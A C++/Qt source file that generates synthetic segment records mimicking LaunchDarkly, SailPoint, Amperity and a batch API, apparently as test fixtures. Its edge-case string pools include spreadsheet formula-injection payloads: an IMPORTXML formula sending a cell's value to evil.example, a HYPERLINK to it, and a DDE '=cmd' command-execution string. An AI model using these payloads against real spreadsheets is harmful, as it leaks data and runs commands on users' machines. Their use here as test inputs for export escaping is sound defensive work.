#include "datagen.h"
#include "datagen_p.h"

#include <QDateTime>
#include <QJsonArray>
#include <QStringList>

#include <algorithm>
#include <array>

namespace sb::datagen {

namespace detail {

// A bijection on `bits`-bit numbers that looks random: ids made from it never collide and do
// not count up visibly. Each step (add, xor-shift, odd multiply) can be undone modulo 2^bits.
quint64 scramble(quint64 value, int bits)
{
    const quint64 mask = (quint64(1) << bits) - 1;
    const int shift = bits / 2;
    quint64 x = (value + 0x5851F42D4C957F2DULL) & mask;
    x ^= x >> shift;
    x = (x * 0x9E3779B97F4A7C15ULL) & mask;
    x ^= x >> shift;
    x = (x * 0xBF58476D1CE4E5B9ULL) & mask;
    return x ^ (x >> shift);
}

QString utf8(const char *text)
{
    return QString::fromUtf8(text);
}

QStringList fromUtf8List(std::initializer_list<const char *> texts)
{
    QStringList list;
    for (const char *text : texts)
        list.append(utf8(text));
    return list;
}

const QStringList &nameTemplates()
{
    static const QStringList names = [] {
        QStringList list = fromUtf8List({
            "VIP customers",       "Churned users",
            "Beta testers",        "Newsletter subscribers",
            "Cart abandoners",     "High-value buyers",
            "Dormant accounts",    "Trial users",
            "Mobile power users",  "Holiday shoppers",
            "Returning customers", "First-time visitors",
            "Enterprise admins",   "Loyalty members",
            "Internal staff",      "Clients fidèles",
            "Käufer in München",   "Usuarios en España",
            "Пользователи iOS",    "日本のユーザー",
            "高价值客户",          "🚀 Early adopters",
            "عملاء مميزون",        "مستخدمون جدد",
            "לקוחות חוזרים",       "משתמשי בטא",
            "VIP — לקוחות",        "The \"power\" users",
            "O'Brien's team",      "Paris, Lyon, Marseille",
            "Line one\nLine two",  "Windows\r\nline break",
            "Tab\tseparated",      "Semicolon; separated",
            "=SUM(A1:A9)",         "=HYPERLINK(\"http://evil.example\",\"click\")",
            "+33 callers",         "-10% discount seekers",
            "@mentions fans",      "<b>Bold</b> & co",
            "Back\\slash",         "Trailing space ",
            " Leading space",      "100% \"real\", trust me",
        });
        list.append(QStringLiteral("Very long segment name ").repeated(12).trimmed());
        return list;
    }();
    return names;
}

QString segmentName(quint64 seed, int index)
{
    if (demo())
        return demoName(seed, index);
    const quint64 h = hashOf(seed, index, 1);
    const QString &base = pick(nameTemplates(), h);
    // One name in twelve is the bare template, so names repeat as they do in real accounts;
    // names that start or end with a space keep it at that end.
    if ((h >> 24) % 12 == 0 || base.startsWith(QLatin1Char(' ')) || base.endsWith(QLatin1Char(' ')))
        return base;
    return base + QStringLiteral(" #") + QString::number(index + 1);
}

// Empty optional: the description is missing altogether.
std::optional<QString> description(quint64 seed, int index)
{
    if (demo())
        return demoDescription(seed, index);
    static const QStringList pool = fromUtf8List({
        "Customers who bought twice in 90 days",
        "Users in the EU, UK and CH",
        "Multi-line\ndescription with\nthree lines",
        "Quoted \"word\" and a 'single' one",
        "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
        "+1 555 0100 callers",
        "-- internal --",
        "@channel announcements",
        "وصف باللغة العربية",
        "תיאור בעברית, עם פסיק",
        "Semicolons; commas, tabs\tand \"quotes\"",
        "Ends with a backslash \\",
        "Ünïcödé: café, naïve, Straße, 東京",
    });
    const quint64 h = hashOf(seed, index, 2);
    switch (h % 6) {
    case 0:
        return std::nullopt;
    case 1:
        return QString();
    default:
        return pick(pool, h >> 8);
    }
}

// One record in eight was created in one of three bulk imports, at the very same instant as
// many others.
bool bulkImported(quint64 seed, int index)
{
    return !demo() && (hashOf(seed, index, 3) >> 50) % 8 == 0;
}

// Seconds since the epoch, between 2019 and 2024 (the demo: 2021 to 2026).
qint64 createdSeconds(quint64 seed, int index)
{
    if (demo())
        return demoCreatedSeconds(seed, index);
    constexpr qint64 start = 1546300800; // 2019-01-01T00:00:00Z
    constexpr qint64 span = 5LL * 365 * 86400;
    const quint64 h = hashOf(seed, index, 3);
    if (bulkImported(seed, index))
        return start + 86400LL * 100 * qint64(1 + (h >> 40) % 3);
    return start + qint64(h % span);
}

// Never before creation; one record in eight was never modified.
qint64 modifiedSeconds(quint64 seed, int index)
{
    if (demo())
        return demoModifiedSeconds(seed, index);
    const quint64 h = hashOf(seed, index, 4);
    const qint64 created = createdSeconds(seed, index);
    if ((h >> 50) % 8 == 0)
        return created;
    return created + qint64(h % (300ULL * 86400));
}

QString rfc3339Utc(qint64 seconds)
{
    return QDateTime::fromSecsSinceEpoch(seconds, Qt::UTC).toString(Qt::ISODate);
}

QJsonArray jsonStrings(const QStringList &strings)
{
    return QJsonArray::fromStringList(strings);
}

// ---- LaunchDarkly ----

} // namespace detail

using namespace detail;

QString launchDarklyKey(int index)
{
    if (demo())
        return demoLaunchDarklyKey(index);
    static const QStringList stems {
        QStringLiteral("vip-customers"), QStringLiteral("churned-users"),   QStringLiteral("beta-testers"),
        QStringLiteral("newsletter"),    QStringLiteral("cart-abandoners"), QStringLiteral("high-value"),
        QStringLiteral("dormant"),       QStringLiteral("trial-users"),     QStringLiteral("mobile-power"),
        QStringLiteral("eu.users"),      QStringLiteral("rtl_markets"),     QStringLiteral("internal-staff"),
    };
    return pick(stems, hashOf(LaunchDarklySeed, index, 5)) + QLatin1Char('-') + toBase(quint64(index), 36, 4).toLower();
}

namespace detail {

QJsonArray launchDarklyTags(int index)
{
    if (demo())
        return demoLaunchDarklyTags(index);
    static const QStringList pool {
        QStringLiteral("beta"),       QStringLiteral("enterprise"),  QStringLiteral("mobile"),
        QStringLiteral("eu"),         QStringLiteral("us"),          QStringLiteral("internal"),
        QStringLiteral("churn-risk"), QStringLiteral("q4-campaign"), QStringLiteral("team.growth"),
    };
    Draws draws(LaunchDarklySeed, index, 6);
    const int count = draws.below(4);
    QStringList tags;
    for (int i = 0; i < count; ++i) {
        const QString &tag = pick(pool, draws.next());
        if (!tags.contains(tag))
            tags.append(tag);
    }
    return jsonStrings(tags);
}

// Clause `clause` of rule `rule` of segment `index`; `attributes` lists those the rule tests.
QJsonObject launchDarklyClause(Draws &draws, int index, int rule, int clause, QStringList *attributes)
{
    struct ClauseShape
    {
        const char *attribute;
        const char *op;
        QJsonArray values;
    };
    static const QList<ClauseShape> shapes {
        {"email", "endsWith", {QStringLiteral(".edu"), QStringLiteral("@example.com")}},
        {"country", "in", {QStringLiteral("FR"), QStringLiteral("DE"), QStringLiteral("IL"), QStringLiteral("SA")}},
        {"plan", "in", {QStringLiteral("enterprise"), QStringLiteral("pro")}},
        {"age", "greaterThan", {21}},
        {"key", "startsWith", {QStringLiteral("test-")}},
        {"beta", "in", {true}},
        {"name", "contains", {QStringLiteral("=cmd"), utf8("שלום, world")}},
        {"appVersion", "semVerGreaterThan", {QStringLiteral("2.0.0")}},
        {"signupDate", "before", {1700000000000LL}},
    };
    const quint64 shapeDraw = draws.next();
    const QString id = hexId(draws.next(), 24);
    bool negate = draws.oneIn(5);
    QJsonObject out;
    if (demo()) {
        bool hinted = false;
        out = demoLaunchDarklyClause(index, rule, clause, shapeDraw, attributes, &hinted);
        negate = negate && !hinted;
    } else {
        const ClauseShape &shape = pick(shapes, shapeDraw);
        out = {{QStringLiteral("attribute"), QLatin1String(shape.attribute)},
               {QStringLiteral("op"), QLatin1String(shape.op)},
               {QStringLiteral("values"), shape.values}};
    }
    out.insert(QStringLiteral("_id"), id);
    out.insert(QStringLiteral("negate"), negate);
    if (!draws.oneIn(3))
        out.insert(QStringLiteral("contextKind"), QStringLiteral("user"));
    return out;
}

QJsonArray launchDarklyRules(int index)
{
    Draws draws(LaunchDarklySeed, index, 7);
    QJsonArray rules;
    const int ruleCount = 1 + draws.below(3);
    for (int r = 0; r < ruleCount; ++r) {
        QJsonArray clauses;
        QStringList attributes;
        const int clauseCount = 1 + draws.below(3);
        for (int c = 0; c < clauseCount; ++c)
            clauses.append(launchDarklyClause(draws, index, r, c, &attributes));
        QJsonObject rule {{QStringLiteral("_id"), hexId(draws.next(), 24)}, {QStringLiteral("clauses"), clauses}};
        if (draws.oneIn(4)) {
            rule.insert(QStringLiteral("weight"), draws.below(100000));
            rule.insert(QStringLiteral("bucketBy"), QStringLiteral("key"));
            rule.insert(QStringLiteral("rolloutContextKind"), QStringLiteral("user"));
        }
        if (draws.oneIn(3))
            rule.insert(QStringLiteral("description"),
                        demo() ? demoRuleDescription(clauses) : utf8("Rule with \"quotes\", commas and עברית"));
        rules.append(rule);
    }
    return rules;
}

QJsonArray userKeys(Draws &draws, int count)
{
    QJsonArray keys;
    for (int i = 0; i < count; ++i)
        keys.append(QString(QStringLiteral("user-") + hexId(draws.next(), 8)));
    return keys;
}

// ---- SailPoint ----

QString sailPointTimestamp(qint64 seconds, quint64 h)
{
    // RFC 3339 in the three spellings real tenants mix: microseconds, whole seconds, an offset.
    switch (h % 10) {
    case 0:
        return QDateTime::fromSecsSinceEpoch(seconds, Qt::OffsetFromUTC, 2 * 3600).toString(Qt::ISODate);
    case 1:
    case 2:
        return rfc3339Utc(seconds);
    default:
        return QDateTime::fromSecsSinceEpoch(seconds, Qt::UTC).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss"))
            + QLatin1Char('.') + QStringLiteral("%1").arg((h >> 8) % 1000000, 6, 10, QLatin1Char('0'))
            + QLatin1Char('Z');
    }
}

QJsonValue sailPointOwner(int index)
{
    static const QStringList names = fromUtf8List({
        "support",
        "Jane Doe",
        "José Álvarez",
        "محمد علي",
        "O'Connor, Siobhán",
        "李雷",
        "=cmd|' /C calc'!A0",
        "Dana \"DJ\" Levi",
    });
    const quint64 h = hashOf(SailPointSeed, index, 8);
    if (h % (demo() ? 10 : 5) == 0)
        return QJsonValue::Null;
    const QStringList &pool = demo() ? demoOwners() : names;
    const int owner = int((h >> 8) % quint64(pool.size()));
    return QJsonObject {
        {QStringLiteral("type"), QStringLiteral("IDENTITY")},
        {QStringLiteral("id"), hexId(quint64(owner) + 0x2c9180a4ULL, 32)},
        {QStringLiteral("name"), pool.at(owner)},
    };
}

// The comparison at `position` in the criteria; `attributes` lists those compared before.
QJsonObject sailPointEquals(Draws &draws, int index, int position, QStringList *attributes)
{
    static const QStringList names {QStringLiteral("location"), QStringLiteral("department"), QStringLiteral("title"),
                                    QStringLiteral("cloudLifecycleState"), QStringLiteral("company")};
    static const QStringList values = fromUtf8List({
        "Austin",
        "Zürich",
        "Tel Aviv / תל אביב",
        "Sales, EMEA",
        "=1+2",
        "",
        "active",
    });
    QPair<QString, QString> comparison;
    if (demo()) {
        comparison = demoSailPointComparison(index, position, draws, attributes);
    } else {
        comparison.first = pick(names, draws.next());
        comparison.second = pick(values, draws.next());
    }
    return QJsonObject {
        {QStringLiteral("operator"), QStringLiteral("EQUALS")},
        {QStringLiteral("attribute"), comparison.first},
        {QStringLiteral("value"),
         QJsonObject {{QStringLiteral("type"), QStringLiteral("STRING")},
                      {QStringLiteral("value"), comparison.second}}},
    };
}

QJsonValue sailPointVisibility(int index)
{
    Draws draws(SailPointSeed, index, 9);
    QStringList attributes;
    switch (draws.below(4)) {
    case 0:
        return QJsonValue::Null;
    case 1: {
        // A single comparison, as in the vendor's example.
        QJsonObject expression = sailPointEquals(draws, index, 0, &attributes);
        expression.insert(QStringLiteral("children"), QJsonArray());
        return QJsonObject {{QStringLiteral("expression"), expression}};
    }
    default: {
        QJsonArray children;
        const int count = 2 + draws.below(2);
        for (int i = 0; i < count; ++i) {
            QJsonObject child = sailPointEquals(draws, index, i, &attributes);
            child.insert(QStringLiteral("children"), QJsonValue::Null);
            children.append(child);
        }
        return QJsonObject {{QStringLiteral("expression"),
                             QJsonObject {
                                 {QStringLiteral("operator"), QStringLiteral("AND")},
                                 {QStringLiteral("attribute"), QJsonValue::Null},
                                 {QStringLiteral("value"), QJsonValue::Null},
                                 {QStringLiteral("children"), children},
                             }}};
    }
    }
}

QString sailPointId(int index)
{
    // The last group is a bijection of the index: ids never collide.
    const quint64 tail = scramble(quint64(index), 48);
    const QString head = hexId(hashOf(SailPointSeed, index, 10), 20);
    return head.mid(0, 8) + QLatin1Char('-') + head.mid(8, 4) + QStringLiteral("-4") + head.mid(13, 3)
        + QLatin1Char('-') + QLatin1Char("89ab"[(tail >> 4) % 4]) + head.mid(17, 3) + QLatin1Char('-')
        + QStringLiteral("%1").arg(tail, 12, 16, QLatin1Char('0'));
}

} // namespace detail

quint64 mix(quint64 value)
{
    value += 0x9E3779B97F4A7C15ULL;
    value = (value ^ (value >> 30)) * 0xBF58476D1CE4E5B9ULL;
    value = (value ^ (value >> 27)) * 0x94D049BB133111EBULL;
    return value ^ (value >> 31);
}

static const char kDigits[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

QString toBase(quint64 value, int base, int width)
{
    QString text;
    do {
        text.prepend(QLatin1Char(kDigits[value % quint64(base)]));
        value /= quint64(base);
    } while (value > 0);
    if (text.size() < width)
        text.prepend(QString(width - text.size(), QLatin1Char('0')));
    return text;
}

std::optional<quint64> fromBase(QStringView text, int base)
{
    if (text.isEmpty() || text.size() > 12)
        return std::nullopt;
    quint64 value = 0;
    for (const QChar c : text) {
        const char *digit = c.unicode() < 128 ? std::strchr(kDigits, char(c.unicode())) : nullptr;
        if (!digit || *digit == '\0' || digit - kDigits >= base)
            return std::nullopt;
        value = value * quint64(base) + quint64(digit - kDigits);
    }
    return value;
}

QString hexId(quint64 seed, int digits)
{
    QString text;
    quint64 h = seed;
    while (text.size() < digits) {
        h = mix(h);
        text += QStringLiteral("%1").arg(h, 16, 16, QLatin1Char('0'));
    }
    return text.left(digits);
}

QJsonObject batchSegment(int index)
{
    static const QStringList stems {
        QStringLiteral("VIP"),          QStringLiteral("CHURNED"),      QStringLiteral("BETA_TESTERS"),
        QStringLiteral("NEWSLETTER"),   QStringLiteral("CART_ABANDON"), QStringLiteral("HIGH_VALUE"),
        QStringLiteral("DORMANT"),      QStringLiteral("TRIAL"),        QStringLiteral("MOBILE_POWER"),
        QStringLiteral("HOLIDAY_2024"), QStringLiteral("LOYALTY"),      QStringLiteral("EU_USERS"),
    };
    return QJsonObject {
        {QStringLiteral("code"),
         demo() ? demoBatchCode(index)
                : QString(pick(stems, hashOf(BatchSeed, index, 5)) + QLatin1Char('-') + toBase(quint64(index), 36, 4))},
        {QStringLiteral("display_name"), segmentName(BatchSeed, index)},
        {QStringLiteral("created_at"), rfc3339Utc(createdSeconds(BatchSeed, index))},
        {QStringLiteral("updated_at"), rfc3339Utc(modifiedSeconds(BatchSeed, index))},
    };
}

int batchIndexOf(const QString &code)
{
    if (demo()) {
        const int index = demoBatchIndexOf(code);
        return index >= 0 && batchSegment(index).value(QStringLiteral("code")).toString() == code ? index : -1;
    }
    const qsizetype dash = code.lastIndexOf(QLatin1Char('-'));
    const std::optional<quint64> index = dash < 0 ? std::nullopt : fromBase(QStringView(code).mid(dash + 1), 36);
    if (!index || *index > quint64(std::numeric_limits<int>::max()))
        return -1;
    return batchSegment(int(*index)).value(QStringLiteral("code")).toString() == code ? int(*index) : -1;
}

QString launchDarklyName(int index)
{
    return segmentName(LaunchDarklySeed, index);
}

qint64 launchDarklyCreationDate(int index)
{
    const qint64 millis =
        bulkImported(LaunchDarklySeed, index) ? 0 : qint64(hashOf(LaunchDarklySeed, index, 11) % 1000);
    return createdSeconds(LaunchDarklySeed, index) * 1000 + millis;
}

qint64 launchDarklyLastModified(int index)
{
    const qint64 modified = modifiedSeconds(LaunchDarklySeed, index);
    if (modified == createdSeconds(LaunchDarklySeed, index))
        return launchDarklyCreationDate(index);
    return modified * 1000 + qint64(hashOf(LaunchDarklySeed, index, 12) % 1000);
}

QJsonObject launchDarklySegment(int index, const QString &project, const QString &environment)
{
    const QString key = launchDarklyKey(index);
    Draws draws(LaunchDarklySeed, index, 13);
    QJsonObject segment {
        {QStringLiteral("key"), key},
        {QStringLiteral("name"), launchDarklyName(index)},
        {QStringLiteral("tags"), launchDarklyTags(index)},
        {QStringLiteral("creationDate"), launchDarklyCreationDate(index)},
        {QStringLiteral("lastModifiedDate"), launchDarklyLastModified(index)},
        {QStringLiteral("version"), 1 + draws.below(40)},
        {QStringLiteral("deleted"), false},
        {QStringLiteral("_links"),
         QJsonObject {{QStringLiteral("self"),
                       QJsonObject {{QStringLiteral("href"),
                                     QString(QStringLiteral("/api/v2/segments/") + project + QLatin1Char('/')
                                             + environment + QLatin1Char('/') + key)},
                                    {QStringLiteral("type"), QStringLiteral("application/json")}}}}},
    };
    if (const std::optional<QString> text = description(LaunchDarklySeed, index))
        segment.insert(QStringLiteral("description"), *text);

    // Six in ten are rule-based, two list-based, one a big list segment, one a synced segment.
    const int kind = draws.below(10);
    const bool big = kind >= 8;
    segment.insert(QStringLiteral("rules"), kind < 6 ? launchDarklyRules(index) : QJsonArray());
    segment.insert(QStringLiteral("generation"), big ? 1 + draws.below(4) : 1);
    if (big) {
        // Big segments: included and excluded are left out.
        segment.insert(QStringLiteral("unbounded"), true);
        segment.insert(QStringLiteral("unboundedContextKind"), QStringLiteral("user"));
        segment.insert(QStringLiteral("_importInProgress"), false);
        if (kind == 9) {
            static const QStringList sources {QStringLiteral("amplitude"), QStringLiteral("segment"),
                                              QStringLiteral("mparticle")};
            const QString &source = pick(sources, draws.next());
            segment.insert(QStringLiteral("_external"), source);
            segment.insert(QStringLiteral("_externalLink"),
                           QString(QStringLiteral("https://") + source + QStringLiteral(".example.com/cohort/")
                                   + hexId(draws.next(), 8)));
        }
    } else {
        segment.insert(QStringLiteral("unbounded"), false);
        const int included = kind >= 6 ? 1 + draws.below(5) : draws.below(2);
        segment.insert(QStringLiteral("included"), userKeys(draws, included));
        segment.insert(QStringLiteral("excluded"), userKeys(draws, draws.below(3)));
        segment.insert(QStringLiteral("includedContexts"), QJsonArray());
        segment.insert(QStringLiteral("excludedContexts"), QJsonArray());
    }
    return segment;
}

QJsonObject amperitySegment(int index)
{
    // The eight characters after the dash are a bijection of the index (2^47 < 62^8), so ids
    // never collide.
    const quint64 h = hashOf(AmperitySeed, index, 14);
    const QString prefix = QString(QLatin1Char(char('a' + h % 26))) + QLatin1Char(char('a' + (h >> 8) % 26));
    QJsonObject segment {
        {QStringLiteral("id"), QString(prefix + QLatin1Char('-') + toBase(scramble(quint64(index), 47), 62, 8))},
        {QStringLiteral("name"), segmentName(AmperitySeed, index)},
    };
    // The docs' own example has no status; the 2026 spec requires one. Both occur.
    switch ((h >> 16) % 5) {
    case 0:
        break;
    case 1:
        segment.insert(QStringLiteral("status"), QStringLiteral("inactive"));
        break;
    case 2:
        segment.insert(QStringLiteral("status"), QStringLiteral("draft"));
        break;
    default:
        segment.insert(QStringLiteral("status"), QStringLiteral("active"));
        break;
    }
    return segment;
}

QJsonObject sailPointSegment(int index)
{
    const quint64 h = hashOf(SailPointSeed, index, 15);
    QJsonObject segment {
        {QStringLiteral("id"), sailPointId(index)},
        {QStringLiteral("name"), segmentName(SailPointSeed, index)},
        {QStringLiteral("created"), sailPointTimestamp(createdSeconds(SailPointSeed, index), h)},
        {QStringLiteral("modified"), sailPointTimestamp(modifiedSeconds(SailPointSeed, index), h >> 20)},
        {QStringLiteral("owner"), sailPointOwner(index)},
        {QStringLiteral("visibilityCriteria"), sailPointVisibility(index)},
        {QStringLiteral("active"), (h >> 40) % 3 != 0},
    };
    if (const std::optional<QString> text = description(SailPointSeed, index))
        segment.insert(QStringLiteral("description"), *text);
    return segment;
}

} // namespace sb::datagen
